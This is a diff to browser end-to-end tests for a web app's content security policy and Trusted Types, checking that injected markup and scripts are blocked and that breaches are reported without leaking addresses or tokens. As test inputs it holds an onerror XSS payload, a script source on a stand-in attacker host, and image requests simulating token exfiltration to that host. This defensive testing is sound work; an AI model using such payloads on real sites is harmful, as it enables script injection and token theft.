@@ -1,5 +1,6 @@
 import { expect, type Page } from '@playwright/test';
 import { test } from '../support/e2e/test.ts';
+import { words } from '../support/e2e/words.ts';
 
 /** What the browser reports of a page's content security policy, from its first moment. */
 async function collectReports(page: Page): Promise<() => Promise<readonly string[]>> {
@@ -32,12 +33,105 @@ for (const display of ['off', 'house', 'google'] as const) {
     const space = page.locator('[data-ad-space="leaderboard"]');
     await expect(space).toHaveAttribute('data-shows', display === 'off' ? 'kept' : 'filled', { timeout: 20_000 });
     expect(await reports()).toEqual([]);
-    troubles.expect(/inline event handler/);
-    // A script that somebody got into the page is stopped, and reported.
+    troubles.expect(/inline event handler|TrustedHTML|TrustedScriptURL|TrustedTypes|Trusted Type/);
+    // A script that somebody got into the page is stopped, and reported. With Trusted Types it doesn't even get there.
     await page.evaluate(() => {
-      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="globalThis.broken = true" alt="">');
+      const image = document.createElement('img');
+      image.setAttribute('src', 'data:,');
+      try {
+        image.setAttribute('onerror', 'globalThis.broken = true');
+      } catch {
+        // Stopped.
+      }
+      document.body.append(image);
     });
-    await expect.poll(reports).toEqual(['script-src-attr inline']);
+    const [stopped] =
+      display === 'google' ? ['script-src-attr inline'] : ['require-trusted-types-for trusted-types-sink'];
+    await expect.poll(reports).toEqual([stopped]);
     expect(await page.evaluate(() => 'broken' in globalThis)).toBe(false);
   });
 }
+
+test('no text becomes markup or the address of code, nobody makes a policy for it, and the app’s own lets scripts be had over HTTP only', async ({
+  world,
+  page,
+  troubles,
+}) => {
+  troubles.expect(/TrustedHTML|TrustedScriptURL|Trusted Type|TrustedTypePolicy|Content Security Policy/);
+  const here = await world({ scenario: 'plays-at-once' });
+  await page.goto(here.url);
+  await expect(page.getByRole('link', { name: 'Play Skyhop' }).first()).toBeVisible();
+  const tried = await page.evaluate(() => {
+    const outcome = (deed: () => unknown) => {
+      try {
+        deed();
+        return 'done';
+      } catch (error) {
+        return (error as Error).name;
+      }
+    };
+    const { trustedTypes } = globalThis as unknown as {
+      trustedTypes: { createPolicy(name: string, rules: object): unknown; defaultPolicy: unknown };
+    };
+    return {
+      markup: outcome(() => (document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>')),
+      parsed: outcome(() => new DOMParser().parseFromString('<p>x</p>', 'text/html')),
+      script: outcome(() => (document.createElement('script').src = 'https://evil.example/x.js')),
+      worker: outcome(() => new Worker('/sw.js')),
+      policy: outcome(() => trustedTypes.createPolicy('mine', { createHTML: (text: string) => text })),
+      again: outcome(() => trustedTypes.createPolicy('nowlight-page', { createHTML: (text: string) => text })),
+      standard: trustedTypes.defaultPolicy,
+    };
+  });
+  const stopped = 'TypeError';
+  expect(tried).toEqual({
+    markup: stopped,
+    parsed: stopped,
+    script: stopped,
+    worker: stopped,
+    policy: stopped,
+    again: stopped,
+    standard: null,
+  });
+  // The app itself goes on to another page, whose document it reads.
+  await page.getByRole('link', { name: 'Details of Skyhop' }).first().click();
+  await expect(page.getByRole('heading', { level: 1, name: 'Skyhop' })).toBeVisible();
+});
+
+test('a breach of the page’s policy is told to the service for errors once, without the address that it was of', async ({
+  world,
+  page,
+  troubles,
+}) => {
+  troubles.expect(/Content Security Policy|TrustedHTML|Trusted Type/);
+  const here = await world({
+    scenario: 'plays-at-once',
+    config: { country: 'DE', measures: { errors: true } },
+  });
+  await page.goto(here.url);
+  await page.getByRole('button', { name: words('en', 'privacy')('accept') }).click({ timeout: 30_000 });
+  const breaches = async () =>
+    (await here.journal())
+      .filter(({ name }) => name === 'errors.envelope')
+      .map(({ data }) => JSON.stringify(data))
+      .filter((text) => text.includes('policy-breach'));
+  await expect(async () => {
+    await page.evaluate(() => {
+      new Image().src = 'https://evil.example/steal/ana?token=at_planted';
+    });
+    expect(await breaches()).toHaveLength(1);
+  }).toPass({ timeout: 20_000 });
+  await page.evaluate(() => {
+    new Image().src = 'https://evil.example/steal/ben?token=at_planted_2';
+    try {
+      document.createElement('div').innerHTML = '<b>planted</b>';
+    } catch {
+      // Stopped.
+    }
+  });
+  await expect.poll(breaches).toHaveLength(2);
+  const [first = '', second = ''] = await breaches();
+  expect(first).toContain('https://evil.example');
+  expect(second).toContain('require-trusted-types-for');
+  expect(first + second).not.toMatch(/planted|steal|token/);
+});
